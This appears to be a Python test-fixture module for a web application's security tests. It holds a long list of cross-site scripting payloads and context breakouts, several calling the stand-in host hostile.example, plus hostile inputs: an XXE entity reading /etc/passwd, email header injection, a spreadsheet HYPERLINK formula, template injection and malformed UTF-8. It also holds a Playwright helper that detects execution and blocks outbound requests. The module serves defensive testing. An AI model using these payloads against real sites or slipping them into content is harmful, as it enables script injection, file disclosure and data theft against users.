"""Texts that mean harm: scripts in every dress, and texts that break pages, feeds and files.

`SCRIPTS` are for a browser: each calls `window.hostile(…)`, opens a dialog, or fetches from `HOST`, if anything
of it is ever executed or loaded. A test that lays them out in a page calls `watch(page)` before it opens it, and
asserts afterwards that `seen` is empty. `TEXTS` are refused, cleaned or shown as they are, never a 5xx.
"""

from typing import Any, Final

HOST: Final = "hostile.example"

_ELEMENTS: Final = (
    "<script>hostile(1)</script>",
    "<ScRiPt>hostile(1)</sCrIpT>",
    "<script >hostile(1)</script >",
    "<script\t\n>hostile(1)</script\t\n>",
    "<script/x>hostile(1)</script>",
    "<<script>hostile(1)//<</script>",
    "<script>hostile(1)",
    f"<script src=//{HOST}/a.js></script>",
    f"<script src=https://{HOST}/b.js async></script>",
    "<script src='data:text/javascript,hostile(1)'></script>",
    f"<script type=module>import('https://{HOST}/c.js')</script>",
    "<scr<script>ipt>hostile(1)</scr</script>ipt>",
    "<img src=x onerror=hostile(1)>",
    "<img src=x onerror='hostile(1)'>",
    '<img src="x" onerror="hostile(1)">',
    "<img/src=x/onerror=hostile(1)>",
    "<IMG SRC=x ONERROR=hostile(1)>",
    "<img src=x\nonerror\n=\nhostile(1)>",
    "<img src=x onerror=hostile(1)//",
    f"<img src=https://{HOST}/pixel.gif>",
    f"<img srcset='https://{HOST}/pixel.gif 1x'>",
    f"<picture><source srcset=https://{HOST}/d.webp><img src=x></picture>",
    "<svg onload=hostile(1)>",
    "<svg/onload=hostile(1)//",
    "<svg><script>hostile(1)</script></svg>",
    "<svg><script href=data:,hostile(1) /></svg>",
    "<svg><animate onbegin=hostile(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:hostile(1)><a><text y=20>x</text></a></svg>",
    f"<svg><image href=https://{HOST}/e.svg /></svg>",
    "<svg><foreignObject><iframe src=javascript:hostile(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hostile(1)></style></mglyph></table></mtext></math>",
    "<body onload=hostile(1)>",
    "<body onpageshow=hostile(1)>",
    "<input autofocus onfocus=hostile(1)>",
    "<select autofocus onfocus=hostile(1)></select>",
    "<textarea autofocus onfocus=hostile(1)></textarea>",
    "<details open ontoggle=hostile(1)><summary>x</summary></details>",
    "<video autoplay onloadstart=hostile(1)><source src=x></video>",
    "<video><source onerror=hostile(1)></video>",
    "<audio src=x onerror=hostile(1)></audio>",
    "<marquee onstart=hostile(1)>x</marquee>",
    "<div style='animation:x 1s' onanimationstart=hostile(1)>x</div>",
    "<div tabindex=0 onfocus=hostile(1) autofocus>x</div>",
    "<iframe src=javascript:hostile(1)></iframe>",
    "<iframe srcdoc='<script>parent.hostile(1)</script>'></iframe>",
    f"<iframe src=https://{HOST}/f.html></iframe>",
    "<object data=javascript:hostile(1)></object>",
    "<object data='data:text/html,<script>parent.hostile(1)</script>'></object>",
    "<embed src=javascript:hostile(1)>",
    f"<link rel=stylesheet href=https://{HOST}/g.css>",
    f"<link rel=prefetch href=https://{HOST}/h>",
    f"<style>@import 'https://{HOST}/i.css';</style>",
    f"<style>*{{background:url(https://{HOST}/j.png)}}</style>",
    f"<div style='background:url(https://{HOST}/k.png)'>x</div>",
    f"<base href=https://{HOST}/>",
    f"<meta http-equiv=refresh content='0;url=https://{HOST}/'>",
    "<meta http-equiv=refresh content='0;url=javascript:hostile(1)'>",
    f"<form action=https://{HOST}/><input type=submit autofocus></form>",
    "<a href=javascript:hostile(1)>x</a>",
    "<a href='java\tscript:hostile(1)'>x</a>",
    "<a href='&#106;avascript&colon;hostile(1)'>x</a>",
    "<template shadowrootmode=open><img src=x onerror=hostile(1)></template>",
    "<div><template shadowrootmode=open><script>hostile(1)</script></template></div>",
)

# Breaking out of where a text may stand: an attribute, a comment, raw text, JSON in a script.
_BREAKS: Final = (
    '"><script>hostile(1)</script>',
    "'><script>hostile(1)</script>",
    '" autofocus onfocus="hostile(1)',
    "' autofocus onfocus='hostile(1)",
    "` autofocus onfocus=`hostile(1)",
    " autofocus onfocus=hostile(1) ",
    '"><img src=x onerror=hostile(1)>',
    "--><img src=x onerror=hostile(1)>",
    "--!><img src=x onerror=hostile(1)>",
    "]]><img src=x onerror=hostile(1)>",
    "</title><img src=x onerror=hostile(1)>",
    "</textarea><img src=x onerror=hostile(1)>",
    "</style><img src=x onerror=hostile(1)>",
    "</noscript><img src=x onerror=hostile(1)>",
    "</template><img src=x onerror=hostile(1)>",
    "</option></select><img src=x onerror=hostile(1)>",
    "</script><script>hostile(1)</script>",
    "<!--<script></script><script>hostile(1)</script>",
    "\\u003cimg src=x onerror=hostile(1)\\u003e",
    "&lt;img src=x onerror=hostile(1)&gt;",
    "&#60;img src=x onerror=hostile(1)&#62;",
    "%3Cimg%20src%3Dx%20onerror%3Dhostile(1)%3E",
    '";hostile(1);//',
    "';hostile(1);//",
    "\\';hostile(1);//",
    "${hostile(1)}",
    "`${hostile(1)}`",
    "</p><p onclick=hostile(1) autofocus tabindex=0 onfocus=hostile(1)>",
    "javascript:hostile(1)",
    "JaVaScRiPt:hostile(1)",
    "\x01javascript:hostile(1)",
    "data:text/html,<script>parent.hostile(1)</script>",
    "＜script＞hostile(1)＜/script＞",
    "\u2028</script><script>hostile(1)</script>",
    "<img src=x o\u0000nerror=hostile(1)>",
    "+ADw-script+AD4-hostile(1)+ADw-/script+AD4-",
)

SCRIPTS: Final = _ELEMENTS + _BREAKS

TEXTS: Final = {
    "bidi override": "Bra \u202etält gnp.exe\u202c köpt",
    "bidi isolates left open": "\u2066\u2067\u2068" * 20 + "text",
    "zalgo": "".join(letter + "\u0301\u0316\u0334\u035f\u0489" * 12 for letter in "zalgo"),
    "100,000 characters": "å" * 100_000,
    "100,000 line breaks": "\n" * 100_000,
    "one word without end": "W" * 4_000,
    "zero widths": "\u200b\u200c\u200d\ufeff\u2060" * 50,
    "nothing but spaces": " \t\u00a0\u3000\u2003" * 20,
    "controls": "a\x00b\x07c\x1bd\x7fe",
    "noncharacters": "a\ufffeb\uffffc\U0001fffe",
    "private use": "\ue000\uf8ff\U000f0000",
    "emoji joined": "👩‍👩‍👧‍👦🏳️‍🌈👍🏽" * 30,
    "tags": "x\U000e0041\U000e0042\U000e007f",
    "template": "{{ 7 * 7 }}{% raw %}{# x #}${7*7}<%= 7*7 %>",
    "format": "%s%n{0}{name!r}%(x)s",
    "formula": '=HYPERLINK("https://hostile.example","klicka")',
    "formula by a tab": "\t=1+1",
    "header": "Hej\r\nBcc: all@hostile.example\r\n\r\ntext",
    "lone quote": "'\"`\\",
    "xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "json": '{"$ref": "#", "__proto__": {"x": 1}}',
    "combining first": "\u0301\u0308börjar",
    "numbers": "1e309 -0 NaN Infinity 0x7f",
}

# As a body, not as a text: JSON that names half of a pair, and bytes that are no UTF-8.
BODIES: Final = (
    rb'{"text": "\ud800"}',
    b'{"text": "\xff\xfe"}',
    b'{"text": "\xc3"}',
    b'\xef\xbb\xbf{"text": "x"}',
)

_WATCH: Final = """
(() => {
  const told = (what) => window.reportHostile(String(what));
  window.hostile = told;
  window.alert = window.confirm = window.prompt = told;
})();
"""


def watch(page: Any) -> list[str]:
    """Watch a Playwright page from its next navigation on; what a text brought about is added to the answer.

    Seen are calls of `hostile`, dialogs, and requests to `HOST` (which are cut off).
    """
    seen: list[str] = []
    page.expose_function("reportHostile", lambda what: seen.append(f"executed: {what}"))
    page.add_init_script(_WATCH)
    page.on("dialog", lambda dialog: (seen.append(f"dialog: {dialog.message}"), dialog.dismiss()))

    def refuse(route: Any) -> None:
        seen.append(f"request: {route.request.url}")
        route.abort()

    page.route(f"**://{HOST}/**", refuse)
    return seen
